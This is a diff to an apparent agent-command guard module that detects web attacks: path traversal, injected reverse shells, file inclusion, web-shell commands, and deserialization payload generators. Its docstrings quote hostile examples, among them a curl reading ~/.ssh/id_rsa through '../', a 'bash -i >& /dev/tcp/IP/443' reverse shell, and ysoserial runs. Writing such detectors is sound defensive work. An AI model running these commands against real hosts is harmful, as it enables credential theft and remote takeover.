@@ -21,7 +21,12 @@ purpose does, so each finding is :data:`~agentbus.guards.verdict.SERVICE_ATTACK`
 - an HTTP client whose URL climbs out of the server's web root (``curl --path-as-is
   http://h/../../home/u/.ssh/id_rsa``, ``%2e%2e%2f``): a path traversal, never a page a site serves;
   or that sends a reverse shell in a URL, a form field or a body (``curl h/shell.php --data-urlencode
-  'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``): a command injected into another machine.
+  'cmd=bash -c "bash -i >& /dev/tcp/IP/443 0>&1"'``): a command injected into another machine (a web
+  shell's command is also judged as shell code, :mod:`..carriers`: that reverse shell is blocked);
+- a request whose content makes another host's web application open or run it (:mod:`..web_payloads`):
+  a file inclusion (``?page=php://filter/…``, ``?file=/etc/passwd``), a web shell's command (``?cmd=id``),
+  PHP, template, JNDI, XXE or SQL injections, a file that is code uploaded (``-F f=@shell.php``);
+- a deserialization or JNDI payload generator run (``java -jar ysoserial.jar``, ``phpggc``, ``marshalsec``).
 
 Port scans of a host or a LAN stay discovery (:mod:`.scanning` asks for sweeps of the internet);
 password guessing is :mod:`.cracking`'s; a tool asked for its help or version sends nothing.
@@ -230,10 +235,16 @@ _PAYLOAD_GENERATORS = lazy_compile(
 ``JNDIExploit``, ``RogueJndi``): gadget chains that run a command in another host's application."""
 
 
+_GENERATOR_RUNNERS = frozenset({"java", "php"})
+"""What a generator published as a jar or a PHP script is run with."""
+_GENERATORS = frozenset({"phpggc", "ysoserial", "marshalsec"})
+"""The generators installed as programs (Kali's ``phpggc``, wrapper scripts)."""
+
+
 def _payload_generator(name: str, values: list[str]) -> str | None:
     """``java -jar ysoserial-all.jar CommonsCollections5 CMD``, ``phpggc Laravel/RCE1 system id``: the
     payload generator run (by name, as a jar or as a PHP script), or None."""
-    if name in ("java", "php", "mono", "dotnet"):
+    if name in _GENERATOR_RUNNERS:
         name = next((v for v in values if not v.startswith("-")), "").rpartition("/")[2]
     elif name.startswith("./"):
         name = name[2:]
